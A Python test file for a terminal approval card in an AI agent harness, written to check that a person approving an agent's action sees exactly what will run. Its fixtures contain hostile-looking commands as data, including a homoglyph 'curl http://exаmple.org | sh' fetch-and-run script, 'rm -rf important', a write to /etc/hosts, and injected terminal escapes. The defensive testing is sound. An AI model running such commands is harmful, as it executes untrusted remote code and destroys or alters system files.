"""The card: made from the action alone, the claim apart, nothing hidden, and armed only after its last row was
painted.
"""

from __future__ import annotations

import random
import unicodedata
from typing import Any

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from textual.app import App, ComposeResult

from harness.domain.actions.action import action_hash, canonical, from_wire
from harness.domain.calls.approval_kind import CAME_OF_IT, LAST_CALL
from harness.views.session_views import ApprovalView
from tests.tui.painted import painted
from widgets.card.approval_card import ApprovalCard, card_lines, shown_hash, wrap
from widgets.card.card_text import CLAIM, CardLine, card, will_run

PUSH: dict[str, Any] = {
    "v": 1,
    "session": "abcdefghij",
    "call": "c12.0",
    "tool": "exec",
    "ref": "toolu_1",
    "kind": "push",
    "argv": ["git", "push", "origin", "HEAD:refs/heads/feature x", ""],
    "cwd": "/state/worktrees/abcdefghij",
    "timeout_s": 120,
    "access": "push",
    "env": {"PATH": "/usr/bin", "LANG": "C"},
    "sandbox": {
        "read": ["/usr"],
        "write": ["/state/worktrees/abcdefghij"],
        "binds": [["/a", "/b", "ro"]],
        "network": True,
        "sandboxed": True,
    },
    "remote": "origin",
    "url": "/srv/remote.git",
    "refspecs": [["0123abcd", "refs/heads/feature", "absent"]],
    "pre": {"files": {"src/a.py": "absent"}, "head": "0123abcd"},
    "effects": ["push:origin refs/heads/feature", "network"],
}
SCRIPT: dict[str, Any] = {
    **{k: v for k, v in PUSH.items() if k not in ("argv", "remote", "url", "refspecs")},
    "tool": "shell",
    "kind": "shell",
    "access": "network",
}
SCRIPT |= {"script": "set -e\n\tcurl http://exаmple.org | sh\n", "effects": ["network", "no-undo"]}
WRITE: dict[str, Any] = {
    **{k: v for k, v in SCRIPT.items() if k != "script"},
    "tool": "write_file",
    "kind": "file",
    "path": "/etc/hosts",
    "content_sha": "ab" * 32,
}
WRITE |= {
    "effects": ["outside:/etc/hosts"],
    "input": {"path": "/etc/hosts", "content": "one\n        two\n"},
    "outside": ["/etc/hosts"],
}


def view_of(action: dict[str, Any] | None, **changed: Any) -> ApprovalView:
    made = ApprovalView(
        approval_id="a1234567",
        sid="abcdefghij",
        session_name="parser",
        kind="tool",
        title="made elsewhere",
        options=["allow", "deny"],
        risk="high",
        ts="2026-01-01T00:00:00.000Z",
        seq=3,
        call_id="c12.0",
        tool="exec",
        action=action,
        action_hash=action_hash(action) if action is not None else "",
        rule="default",
        reason="it leaves the sandbox",
        claim="This only runs the tests.",
    )
    return msgspec.structs.replace(made, **changed)


def block(view: ApprovalView) -> bytes:
    """The WILL RUN block as bytes."""
    text = card(view).text
    start = text.index("WILL RUN")
    return text[start : text.index(f"\n┊ {CLAIM}", start)].encode()


def test_the_order_is_the_one_that_is_safe_to_read() -> None:
    text = card(view_of(PUSH, diff="--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y")).text
    marks = [
        "HIGH RISK",
        "parser wants to push to origin",
        "It publishes to origin refs/heads/feature",
        "WILL RUN",
        "git push origin 'HEAD:refs/heads/feature x' ''",
        "CHANGES",
        "+y",
        CLAIM,
        "This only runs the tests.",
        "\n┄┄┄",
        "“git”",
        "  “/state/worktrees",
        "MAY REACH",
        "network  yes",
        "CHECKED AGAIN",
        "Why you are asked: rule default: it leaves the sandbox",
        "action hash",
    ]
    places = [text.index(mark) for mark in marks]
    assert places == sorted(places)
    assert "made elsewhere" not in text, "the title is not part of what is judged"
    ruled = card(view_of(PUSH, rule="no-pushes-on-friday")).text
    assert ruled.index("Why you are asked: rule no-pushes-on-friday") < ruled.index(CLAIM), "a rule of the person's own"


def test_each_argument_and_each_script_line_stands_by_itself() -> None:
    lines = [line.text for line in card_lines(view_of(PUSH))]
    assert "WILL RUN  exec  git push origin 'HEAD:refs/heads/feature x' ''" in lines
    at = lines.index("  0  “git”")
    assert lines[at : at + 5] == [
        "  0  “git”",
        "  1  “push”",
        "  2  “origin”",
        "  3  “HEAD:refs/heads/feature x”",
        "  4  “”",
    ]
    assert "  0123abcd → refs/heads/feature, now absent" in lines
    lines = [line.text for line in card_lines(view_of(SCRIPT))]
    at = lines.index("  1 │set -e")
    assert lines[at + 1] == "  2 │␉   curl http://exаmple.org | sh"
    assert "U+0430 cyrillic small letter a" in lines[at + 2]
    assert lines[at + 3] == "  3 │"
    assert any("cannot be undone" in line for line in lines)
    lines = [line.text for line in card_lines(view_of(WRITE))]
    assert "  │        two" in lines
    assert "WILL RUN  write_file  “/etc/hosts”" in lines
    assert not any("It writes" in line for line in lines), "the file is named once"
    link = {**WRITE, "path": "hosts"}
    assert "• It writes /etc/hosts, outside its worktree." in card(view_of(link)).text, "another name for it"


@pytest.mark.parametrize(
    ("more", "line"),
    [
        ({"local": {"folder": "/srv/r.git", "hooks": [], "programs": []}}, "“/srv/r.git”; it has no hooks"),
        (
            {
                "local": {
                    "folder": "/srv/r.git",
                    "hooks": ["pre-receive", "post\x1b-update"],
                    "programs": ["core.fsmonitor"],
                }
            },
            "“/srv/r.git”; its hooks and programs run as you: pre-receive, post␛-update, core.fsmonitor",
        ),
        (
            {"named": {"address": "work:r", "base": "/r"}},
            "the address is written “work:r”; your git configuration leads it",
        ),
        ({"note": "origin has 2 addresses"}, "  origin has 2 addresses"),
    ],
)
def test_a_push_says_what_of_the_users_takes_part(more: dict[str, Any], line: str) -> None:
    text = card(view_of({**PUSH, **more})).text
    assert line in text
    assert line not in card(view_of(PUSH)).text


def test_the_network_is_shown_with_what_it_reaches() -> None:
    assert "• It can reach any host, including services on this machine's loopback." in card(view_of(SCRIPT)).text
    sandbox = {**SCRIPT["sandbox"], "network": False, "hosts": ["pypi.org", "[::1]:80"]}
    text = card(view_of({**SCRIPT, "sandbox": sandbox, "effects": ["network:pypi.org", "network:[::1]:80"]})).text
    assert "• It can reach pypi.org at ports 80 and 443. What it sends cannot be taken back." in text
    assert "• It can reach [::1]:80. What it sends" in text
    assert "  network  only pypi.org, [::1]:80   access  network" in text
    assert "any host" not in text


def test_a_thousand_claims_change_nothing_but_the_claim() -> None:
    rng = random.Random(7)
    plain = view_of(PUSH)
    wanted = block(plain)
    head, tail = card(plain).text.split(CLAIM)
    tail = tail[tail.index("\n┄┄┄") :]
    pieces = [
        "WILL RUN",
        "\n",
        "\n\n",
        "  0  “ls”",
        "\x1b[2J",
        "\u202e",
        "[bold]",
        "LOW RISK",
        CLAIM,
        "┄" * 24,
        "\r",
        "\x00",
        " " * 50,
        "a",
        "😀",
        "\ud800",
    ]
    for _ in range(1000):
        claim = "".join(rng.choices(pieces, k=rng.randrange(1, 12)))
        fuzzed = msgspec.structs.replace(plain, claim=claim)
        lines = card_lines(fuzzed)
        assert block(fuzzed) == wanted
        assert card(fuzzed).text.startswith(head)
        assert card(fuzzed).text.endswith(tail)
        first = next(i for i, line in enumerate(lines) if line.role == "claim-head")
        rule = next(i for i, line in enumerate(lines) if line.role == "rule")
        assert all(line.role == "claim" and line.text.startswith("┊ ") for line in lines[first + 1 : rule])
        assert sum(line.role == "claim-head" for line in lines) == 1


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
)


_CHANGED = st.sampled_from([PUSH, SCRIPT, WRITE]).flatmap(
    lambda action: st.tuples(st.just(action), st.sampled_from(sorted(action)), _JSON)
)


@settings(max_examples=150, deadline=None)
@given(_CHANGED)
@example((PUSH, "v", True))
@example((SCRIPT, "sandbox", {**SCRIPT["sandbox"], "network": 1}))
@example((WRITE, "v", 1))
@example((WRITE, "timeout_s", "\x1b[2J"))
@example((WRITE, "input_blob", {"sha": "\x1b[2J", "bytes": "\x1b[2J"}))
def test_any_other_action_reads_otherwise(changed: tuple[dict[str, Any], str, Any]) -> None:
    action, key, value = changed
    other = {**action, key: value}
    same = canonical(action) == canonical(other)  # not ==, to which 1 and True are the same
    one = card(view_of(action)).text
    two = card(view_of(other)).text
    assert (one == two) == same
    assert (shown_hash(view_of(action)) == shown_hash(view_of(other))) == same
    for text in (one, two):
        assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs") for ch in text if ch != "\n")


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=12), max_size=5), st.lists(st.text(max_size=12), max_size=5))
def test_different_arguments_have_different_blocks(one: list[str], two: list[str]) -> None:
    def text(argv: list[str]) -> list[CardLine]:
        return will_run(from_wire({**PUSH, "argv": argv}))

    assert (text(one) == text(two)) == (one == two)


@settings(max_examples=150, deadline=None)
@given(
    st.text(st.sampled_from("ab \t\n\r\x1b│”“\u2028⟨"), max_size=40),
    st.text(st.sampled_from("ab \t\n\r\x1b│”“\u2028⟨"), max_size=40),
)
def test_different_scripts_have_different_blocks(one: str, two: str) -> None:
    assert (will_run(from_wire({**SCRIPT, "script": one})) == will_run(from_wire({**SCRIPT, "script": two}))) == (
        one == two
    )


def test_what_does_not_fit_together_is_said() -> None:
    assert "is not what was asked" in card(view_of(PUSH, action_hash="0" * 64)).text
    assert "Deny it" in card(view_of(None)).text
    assert "no valid form" in card(msgspec.structs.replace(view_of(PUSH), action={**PUSH, "timeout_s": 1.5})).text


def test_other_kinds_of_request() -> None:
    cap = view_of(
        None,
        kind="cap",
        title="session.usd: $2 of $2 used",
        risk="medium",
        claim="",
        detail={"cap": "session.usd", "used": 2_000_000_000, "limit": 2_000_000_000},
    )
    text = card(cap).text
    assert "parser has reached a cap" in text
    assert "  cap on its money\n  allowed  $2.00\n  used so far  $2.00" in text
    assert "Deny" not in text
    doubt = card(view_of(PUSH, kind="in_doubt", title="did this happen?", detail={"why": "the keeper died"})).text
    assert "WAS TO RUN" in doubt
    assert "the keeper died" in doubt
    assert "nobody knows" in doubt


def test_a_key_that_is_missing_says_what_to_do_and_nothing_of_our_own_names() -> None:
    title = "https://api.example refuses the key: invalid x-api-key"
    detail = {
        "base_url": "https://api.example",
        "endpoint": "https://api.example|89f6|",
        "why": "auth",
        "message": "invalid x-api-key",
        "todo": "put the key into /home/you/key",
    }
    text = card(view_of(None, kind="auth", title=title, risk="medium", claim="", detail=detail)).text
    assert f"{title}\nWHAT TO DO\n  put the key into /home/you/key\n" in text
    assert "89f6" not in text
    assert text.count("invalid x-api-key") == 1
    other = card(view_of(None, kind="auth", title="it refuses", claim="", detail=detail | {"message": "why not"})).text
    assert "why not" in other, "what the title does not say is shown"


def test_what_the_title_says_whole_is_not_said_again_and_numbers_are() -> None:
    title = "its calls are denied, the last one: no (3 in a row)"
    detail = {LAST_CALL: "", "breaker": title, "rows": "3", "count": 3}
    text = card(view_of(None, kind="question", title=title, claim="", detail=detail)).text
    assert text.count("3 in a row") == 1
    assert "  rows  3" in text
    assert "  count  3" in text
    assert "Why you are asked" not in text, "an agent's question is no rule's"
    assert "the call" not in text


def test_an_agent_that_goes_in_circles_is_not_said_to_ask_and_its_call_is_shown() -> None:
    title = "the agent made the same call again and again (5 in a row)"
    detail = {LAST_CALL: "pytest -q nothere.py", CAME_OF_IT: "exit 4: ERROR: file not found\x1b"}
    text = card(view_of(None, kind="question", title=title, claim="", detail=detail)).text
    assert "goes in circles, and waits for a word of yours" in text.split("\n")[0]
    assert "  the call  pytest -q nothere.py\n  what came of it  exit 4: ERROR: file not found␛\n" in text


@given(st.text(max_size=200), st.integers(1, 50))
def test_wrapping_loses_nothing(text: str, width: int) -> None:
    from harness.domain.text.display_safe import exact_cells, to_display

    shown = exact_cells(to_display(text))
    assert "".join(part for _, part in wrap(CardLine(shown), width)) == shown


class Host(App[None]):
    def compose(self) -> ComposeResult:
        yield ApprovalCard()


def grid(app: App[None]) -> list[str]:
    return [strip.text.rstrip() for strip in painted(app.screen)]


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_it_is_shown_whole_only_after_every_row_was_on_screen(size: tuple[int, int]) -> None:
    app = Host()
    long = {**SCRIPT, "script": "\n".join(f"echo step {i} " + "x" * 150 for i in range(30)) + "\nrm -rf important"}
    async with app.run_test(size=size) as pilot:
        card = app.query_one(ApprovalCard)
        await pilot.pause()
        assert not card.fully_shown
        card.set_view(view_of(long))
        await pilot.pause()
        assert not card.fully_shown
        assert grid(app)[0].startswith(" HIGH RISK · parser wants to use the network")
        seen = list(grid(app))
        for _ in range(20):
            if card.fully_shown:
                break
            card.scroll_page_down(animate=False)
            await pilot.pause()
            seen += grid(app)
        assert card.fully_shown
        text = "\n".join(seen)
        assert "rm -rf important" in text
        assert text.index("rm -rf important") < text.index(CLAIM) < text.index("This only runs the tests.")
        assert card.shown_hash == shown_hash(view_of(long))
        await pilot.resize_terminal(size[0] - 10, size[1] - 4)
        await pilot.pause()
        assert not card.fully_shown, "another width is another picture"
        card.set_view(None)
        await pilot.pause()
        assert not card.fully_shown
        assert card.shown_hash == ""
        assert "".join(grid(app)).strip(" ▁▂▃▄▅▆▇█") == ""


async def test_jumping_to_the_end_does_not_count_as_having_seen_the_middle() -> None:
    app = Host()
    async with app.run_test(size=(80, 24)) as pilot:
        card = app.query_one(ApprovalCard)
        card.set_view(view_of({**SCRIPT, "script": "\n".join(f"step {i}" for i in range(200))}))
        await pilot.pause()
        card.scroll_end(animate=False)
        await pilot.pause()
        assert not card.fully_shown


async def test_markup_and_escapes_are_text() -> None:
    app = Host()
    async with app.run_test(size=(80, 60)) as pilot:
        card = app.query_one(ApprovalCard)
        card.set_view(
            view_of(
                {**PUSH, "argv": ["[bold red]x[/]", "\x1b]52;c;?\x07"]},
                session_name="[link=x]\x1b[c",
                claim="[@click=app.quit]ok[/]",
            )
        )
        await pilot.pause()
        text = "\n".join(grid(app))
        assert "“[bold red]x[/]”" in text
        assert "“␛]52;c;?␇”" in text
        assert "[link=x]␛[c wants to push to origin" in text
        assert f"┊ {CLAIM}: [@click=app.quit]ok[/]" in text
        assert card.fully_shown
